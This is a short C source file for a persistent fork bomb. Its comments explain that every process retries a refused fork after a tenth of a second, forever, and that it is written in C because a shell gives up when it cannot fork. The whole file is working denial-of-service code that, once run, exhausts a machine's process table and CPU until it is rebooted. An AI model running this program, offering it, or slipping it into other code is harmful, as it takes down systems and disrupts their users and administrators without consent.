// A fork bomb that does not give up: a fork that is refused is tried again a little later, by every process for ever.
// In C because a shell leaves when it can't fork.
#include <time.h>
#include <unistd.h>

int main(void)
{
	static const struct timespec pause = { .tv_nsec = 100000000 };

	for (;;)
		if (fork() < 0)
			nanosleep(&pause, NULL);
}
